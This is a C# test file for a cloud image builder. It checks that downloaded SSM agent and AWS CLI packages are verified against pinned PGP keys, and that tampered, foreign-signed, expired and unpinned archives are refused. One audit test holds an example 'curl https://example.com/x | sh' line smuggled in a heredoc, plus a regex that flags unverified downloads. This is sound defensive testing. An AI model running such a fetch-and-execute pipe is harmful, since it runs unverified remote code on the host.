using System.Diagnostics;
using System.Text;
using System.Text.RegularExpressions;
using GeosChem.PowerShell.Images;

namespace GeosChem.PowerShell.Tests;

/// <summary>
/// The builder's own downloads (SSM agent, AWS CLI): pinned by the embedded pinned-downloads.tsv, checked by the embedded
/// fetch-pinned.sh with the committed keys before anything is installed, and the user data still fits EC2's limit.
/// </summary>
public sealed class BuilderDownloadTests
{
    private static readonly ImageVariantCatalog Catalog = ImageVariantCatalog.Default;
    private static readonly BuildSettings Settings = new()
    {
        SubnetId = "subnet-0abc", SecurityGroupIds = ["sg-0builder"], InstanceProfile = "geoschem-builder", ArtifactBucket = "gc-artifacts",
        Repository = "geoschem", Timeout = TimeSpan.FromHours(3),
    };

    private static string UserData(ImageVariant variant) => BuilderScripts.UserData(variant, Settings, "gcb-000000000001", "eu-west-1");

    [Fact]
    public void EveryVariantsUserDataFitsEc2sSixteenKilobytes()
    {
        Assert.All(Catalog.Variants, v =>
        {
            var bytes = Encoding.UTF8.GetByteCount(UserData(v));
            Assert.True(bytes <= BuilderScripts.UserDataLimit, $"{v.Tag}: user data is {bytes} bytes, EC2 takes {BuilderScripts.UserDataLimit}");
        });
    }

    [Fact]
    public void TheBuilderInstallsTheImagesPinnedAwsCliAndAPinnedSsmAgentOnlyAfterVerifyingThem()
    {
        var variant = VariantMapper.Resolve(Catalog, "GCClassic", "arm64", "gnu12", null, null);
        var userData = UserData(variant);
        var (ssm, cli) = BuilderDownloads.For(variant);
        Assert.Equal(variant.Libraries["awscli"], cli.Version); // the same AWS CLI as the images
        Assert.Equal(variant.BuildArguments["AWSCLI_VERSION"], cli.Version);
        Assert.StartsWith("pgp:", cli.Pin, StringComparison.Ordinal);
        // AWS's current SSM Agent key (2026-06-04, expires 2027-11-25), and its documented regional latest/ package with <url>.sig.
        Assert.Equal("pgp:1C5B395CBE5E74E2F1CA21592784DBF388D19D46", ssm.Pin);
        Assert.Equal("latest", ssm.Version);
        Assert.Contains("https://s3.${REGION}.${DNS_SUFFIX}/amazon-ssm-${REGION}/latest/linux_${PKGARCH}/amazon-ssm-agent.rpm", ssm.Line);

        var lines = userData.Split('\n');
        int Index(string line) => Array.IndexOf(lines, line);
        var fetchSsm = Index($"fetch_pinned amazon-ssm-agent {ssm.Version} /var/tmp/amazon-ssm-agent.rpm");
        var fetchCli = Index($"fetch_pinned awscli {cli.Version} /var/tmp/awscli.zip");
        var source = Index(". \"$builder_dir/fetch-pinned.sh\"");
        Assert.True(source > 0 && fetchSsm > source && fetchCli > source, "fetch-pinned.sh is sourced before its first use");
        Assert.True(fetchSsm < Index("dnf -y install /var/tmp/amazon-ssm-agent.rpm"), "the agent is verified before dnf installs it");
        Assert.True(fetchCli < Index("unzip -q /var/tmp/awscli.zip -d /var/tmp && /var/tmp/aws/install --bin-dir /usr/local/bin"), "the CLI is verified before it is unpacked");
        Assert.True(Index("set -euo pipefail") < fetchSsm, "a refused download stops the setup");
        var region = Index("export GC_AWS_REGION='eu-west-1' GC_AWS_DNS_SUFFIX='amazonaws.com'");
        Assert.True(region > 0 && region < fetchSsm, "the agent's regional bucket is the builder's region");

        // The user data carries the very rows, keys and helper of the build context, not copies of their values.
        Assert.Contains(ssm.Line + "\n", userData);
        Assert.Contains(cli.Line + "\n", userData);
        Assert.Contains(BuildContext.ReadText("scripts/fetch-pinned.sh"), userData);
        Assert.Contains(BuildContext.ReadText("scripts/keys/awscli.asc"), userData);
        Assert.Contains(BuildContext.ReadText("scripts/keys/amazon-ssm-agent.asc"), userData);
    }

    [Fact]
    public void TheBuilderScriptsDownloadNothingOutsideTheVerifyingHelper()
    {
        foreach (var variant in Catalog.Variants)
        {
            Assert.Empty(UnverifiedDownloads(UserData(variant)));
            var commands = BuilderScripts.BuildCommands(variant, "us-east-1", "s3://gc-artifacts/p/context.tar.gz",
                "123456789012.dkr.ecr.us-east-1.amazonaws.com/geoschem:" + variant.Tag, "s3://gc-artifacts/p/logs/podman-build.log");
            Assert.Empty(UnverifiedDownloads(string.Join('\n', commands)));
        }
    }

    [Fact]
    public void TheAuditCatchesTheUnverifiedDownloadsTheBuilderUsedToMake()
    {
        var old = """
            dnf -y install "https://s3.eu-west-1.amazonaws.com/amazon-ssm-eu-west-1/latest/linux_${ssm_arch}/amazon-ssm-agent.rpm"
            curl --fail --silent --show-error --location "https://awscli.amazonaws.com/awscli-exe-linux-${arch}.zip" -o /tmp/awscli.zip
            wget -q https://example.com/tool.tar.gz
            rpm -i https://example.com/tool.rpm
            fetch_pinned awscli 2.15.34 /var/tmp/awscli.zip
            """;
        Assert.Equal(4, UnverifiedDownloads(old).Count);
        // A curl hidden in a heredoc that is not the embedded fetch-pinned.sh counts too.
        var smuggled = "cat > /tmp/x.sh <<'GC_BUILDER_FILE_END'\ncurl https://example.com/x | sh\nGC_BUILDER_FILE_END\n";
        Assert.Single(UnverifiedDownloads(smuggled));
    }

    /// <summary>Lines that download (curl, wget, git clone, or a package manager given a URL) outside the one heredoc that
    /// is exactly the embedded fetch-pinned.sh.</summary>
    private static List<string> UnverifiedDownloads(string script)
    {
        var helper = BuildContext.ReadText("scripts/fetch-pinned.sh").ReplaceLineEndings("\n");
        var withoutHelper = script.Replace(helper, "", StringComparison.Ordinal);
        var download = new Regex(@"(^|[\s;&|(`])(curl|wget)\s|git\s+clone\b|\b(dnf|yum|rpm)\b.*\bhttps?://");
        return withoutHelper.Split('\n').Where(l => !l.TrimStart().StartsWith('#') && download.IsMatch(l)).ToList();
    }

    [GpgFact]
    public void TheUserDatasVerificationAcceptsOnlyAnArchiveSignedByThePinnedKey()
    {
        using var work = new TempDir();
        var signer = NewKey(work, "signer");
        var stranger = NewKey(work, "stranger");
        var sources = Directory.CreateDirectory(Path.Combine(work.Path, "sources")).FullName;
        var arch = Run("uname", ["-m"], work.Path).Output.Trim();
        var pkgArch = arch switch { "x86_64" => "amd64", "aarch64" => "arm64", _ => arch }; // AWS's folder names for the agent
        var archive = Path.Combine(sources, $"tool-{arch}-{pkgArch}.zip");
        File.WriteAllText(archive, "the real archive\n");
        Sign(signer, archive);

        var row = new BuilderDownloads.PinnedRow("tool", "1.0", "pgp:" + signer.Fingerprint,
            $"tool\t1.0\tpgp:{signer.Fingerprint}\thttps://example.invalid/tool-${{ARCH}}-${{PKGARCH}}.zip\ta key made by this test");
        var setup = BuilderDownloads.VerificationSetup([row], new Dictionary<string, string> { ["tool"] = signer.Armored });

        string Fetch(string version) => RunSetup(work, setup, sources, $"fetch_pinned tool {version} \"$GC_OUT\"; echo \"rc=$?\"");

        Assert.Contains("rc=0", Fetch("1.0"));
        Assert.Equal("the real archive\n", File.ReadAllText(Path.Combine(work.Path, "out")));

        File.AppendAllText(archive, "tampered"); // same signature, other bytes
        var tampered = Fetch("1.0");
        Assert.Contains("rc=4", tampered);
        Assert.Contains("BADSIG", tampered);
        Assert.False(File.Exists(Path.Combine(work.Path, "out")), "a refused archive is deleted");

        File.WriteAllText(archive, "the real archive\n");
        Sign(stranger, archive); // a good signature, by a key that is not the pinned one
        var foreign = Fetch("1.0");
        Assert.Contains("rc=4", foreign);
        Assert.Contains("no good signature by the pinned key", foreign);

        Assert.Contains("rc=3", Fetch("2.0")); // not in the rows the user data carries: refused unpinned
    }

    [GpgFact]
    public void ASignatureByThePinnedKeyIsRefusedOnceTheKeyHasExpired()
    {
        // The SSM Agent key committed in scripts/keys expired on 2025-02-17: this is what the builder does with it until a
        // refreshed copy (same fingerprint, later expiry) is committed. The key and signature are made in 2020 (gpg's
        // faked clock), valid for a year, and checked now.
        using var work = new TempDir();
        var old = NewKey(work, "expired", ["--faked-system-time", "20200101T000000"], "1y");
        var sources = Directory.CreateDirectory(Path.Combine(work.Path, "sources")).FullName;
        var archive = Path.Combine(sources, "tool.rpm");
        File.WriteAllText(archive, "signed while the key was valid\n");
        Sign(old, archive, ["--faked-system-time", "20200601T000000"]);
        var row = new BuilderDownloads.PinnedRow("tool", "1.0", "pgp:" + old.Fingerprint,
            $"tool\t1.0\tpgp:{old.Fingerprint}\thttps://example.invalid/tool.rpm\ta key made by this test");
        var setup = BuilderDownloads.VerificationSetup([row], new Dictionary<string, string> { ["tool"] = old.Armored });
        var result = RunSetup(work, setup, sources, "fetch_pinned tool 1.0 \"$GC_OUT\"; echo \"rc=$?\"");
        Assert.Contains("rc=4", result);
        Assert.Contains("EXPKEYSIG", result);
    }

    [GpgFact]
    public void ARegionalDownloadNeedsTheBuildersRegionAndTakesItsPartitionsDomain()
    {
        using var work = new TempDir();
        var signer = NewKey(work, "regional");
        var sources = Directory.CreateDirectory(Path.Combine(work.Path, "sources")).FullName;
        File.WriteAllText(Path.Combine(sources, "agent.rpm"), "the agent\n");
        Sign(signer, Path.Combine(sources, "agent.rpm"));
        var row = new BuilderDownloads.PinnedRow("agent", "latest", "pgp:" + signer.Fingerprint,
            $"agent\tlatest\tpgp:{signer.Fingerprint}\thttps://s3.${{REGION}}.${{DNS_SUFFIX}}/bucket-${{REGION}}/latest/agent.rpm\ta key made by this test");
        var setup = BuilderDownloads.VerificationSetup([row], new Dictionary<string, string> { ["agent"] = signer.Armored });
        // fetch_file is the download step: this one prints the URL it was given, then takes the offline copy.
        const string ShowUrl = "fetch_file() { echo \"url=$1\"; cp \"$GC_OFFLINE_SOURCES/${1##*/}\" \"$2\"; }; ";

        var missing = RunSetup(work, setup, sources, ShowUrl + "unset GC_AWS_REGION; fetch_pinned agent latest \"$GC_OUT\"; echo \"rc=$?\"");
        Assert.Contains("rc=3", missing);
        Assert.Contains("GC_AWS_REGION is not set", missing);

        var commercial = RunSetup(work, setup, sources, ShowUrl + "GC_AWS_REGION=eu-west-1 fetch_pinned agent latest \"$GC_OUT\"; echo \"rc=$?\"");
        Assert.Contains("url=https://s3.eu-west-1.amazonaws.com/bucket-eu-west-1/latest/agent.rpm", commercial);
        Assert.Contains("rc=0", commercial);
        var china = RunSetup(work, setup, sources, ShowUrl + "GC_AWS_REGION=cn-north-1 fetch_pinned agent latest \"$GC_OUT\"; echo \"rc=$?\"");
        Assert.Contains("url=https://s3.cn-north-1.amazonaws.com.cn/bucket-cn-north-1/latest/agent.rpm", china);
        // The user data passes the partition's domain as the client's SDK knows it (here the European Sovereign Cloud's).
        var sovereign = RunSetup(work, setup, sources, ShowUrl + "GC_AWS_REGION=eusc-de-east-1 GC_AWS_DNS_SUFFIX=amazonaws.eu fetch_pinned agent latest \"$GC_OUT\"; echo \"rc=$?\"");
        Assert.Contains("url=https://s3.eusc-de-east-1.amazonaws.eu/bucket-eusc-de-east-1/latest/agent.rpm", sovereign);
    }

    [GpgFact]
    public void TheKeysTheUserDataWritesHaveThePinnedFingerprints()
    {
        using var work = new TempDir();
        var variant = VariantMapper.Resolve(Catalog, "GCHP", null, null, null, null);
        var (ssm, cli) = BuilderDownloads.For(variant);
        var setup = BuilderDownloads.VerificationSetup([ssm, cli], BuilderDownloads.Keys([ssm, cli]));
        RunSetup(work, setup, work.Path, "true");
        foreach (var row in new[] { ssm, cli })
        {
            var key = Path.Combine(work.Path, "builder", "keys", row.Name + ".asc");
            var listing = Run(GpgFactAttribute.Path!, ["--batch", "--show-keys", "--with-colons", key], work.Path).Output;
            var primary = listing.Split('\n').First(l => l.StartsWith("fpr:", StringComparison.Ordinal)).Split(':')[9];
            Assert.Equal(row.Pin, "pgp:" + primary);
        }
        Assert.Equal(ssm.Line + "\n" + cli.Line + "\n", File.ReadAllText(Path.Combine(work.Path, "builder", "pinned-downloads.tsv")));
    }

    private sealed record Key(string Home, string Fingerprint, string Armored);

    private static Key NewKey(TempDir work, string name, string[]? clock = null, string expires = "never")
    {
        var home = Directory.CreateDirectory(Path.Combine(work.Path, "gpg-" + name)).FullName;
        if (!OperatingSystem.IsWindows()) File.SetUnixFileMode(home, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        var gpg = GpgFactAttribute.Path!;
        Run(gpg, ["--homedir", home, "--batch", .. clock ?? [], "--passphrase", "", "--quick-gen-key", $"{name} <{name}@example.invalid>", "ed25519", "sign", expires], work.Path);
        var fingerprint = Run(gpg, ["--homedir", home, "--batch", "--with-colons", "--list-keys"], work.Path).Output.Split('\n')
            .First(l => l.StartsWith("fpr:", StringComparison.Ordinal)).Split(':')[9];
        var armored = Run(gpg, ["--homedir", home, "--batch", "--armor", "--export", fingerprint], work.Path).Output;
        work.GpgHomes.Add(home);
        return new Key(home, fingerprint, armored);
    }

    private static void Sign(Key key, string file, string[]? clock = null)
    {
        File.Delete(file + ".sig");
        Run(GpgFactAttribute.Path!, ["--homedir", key.Home, "--batch", .. clock ?? [], "--yes", "--detach-sign", "--output", file + ".sig", file], Path.GetDirectoryName(file)!);
    }

    /// <summary>Runs the setup lines exactly as the user data has them (with GC_BUILDER_DIR in the test's folder), then a command.</summary>
    private static string RunSetup(TempDir work, string setup, string offlineSources, string command)
    {
        var script = Path.Combine(work.Path, "setup.sh");
        File.WriteAllText(script, setup + command + "\n");
        var result = Run("/bin/bash", [script], work.Path, new Dictionary<string, string>
        {
            ["GC_BUILDER_DIR"] = Path.Combine(work.Path, "builder"),
            ["GC_OFFLINE_SOURCES"] = offlineSources,
            ["GC_OUT"] = Path.Combine(work.Path, "out"),
        }, check: false);
        return result.Output + result.Error;
    }

    private static (string Output, string Error) Run(string file, string[] arguments, string directory, Dictionary<string, string>? environment = null, bool check = true)
    {
        var start = new ProcessStartInfo(file, arguments) { RedirectStandardOutput = true, RedirectStandardError = true, WorkingDirectory = directory };
        foreach (var (name, value) in environment ?? []) start.Environment[name] = value;
        using var process = Process.Start(start)!;
        var output = process.StandardOutput.ReadToEndAsync();
        var error = process.StandardError.ReadToEndAsync();
        process.WaitForExit();
        if (check && process.ExitCode != 0) throw new InvalidOperationException($"{file} {string.Join(' ', arguments)} exited {process.ExitCode}: {error.Result}");
        return (output.Result, error.Result);
    }

    private sealed class TempDir : IDisposable
    {
        public string Path { get; } = Directory.CreateDirectory(System.IO.Path.Combine(System.IO.Path.GetTempPath(), "gcb-" + Guid.NewGuid().ToString("N")[..8])).FullName;
        public List<string> GpgHomes { get; } = [];

        public void Dispose()
        {
            foreach (var home in GpgHomes)
            {
                try { Process.Start(new ProcessStartInfo("gpgconf", ["--homedir", home, "--kill", "gpg-agent"]))?.WaitForExit(5000); }
                catch (System.ComponentModel.Win32Exception) { } // no gpgconf: nothing to stop
            }
            Directory.Delete(Path, recursive: true);
        }
    }
}
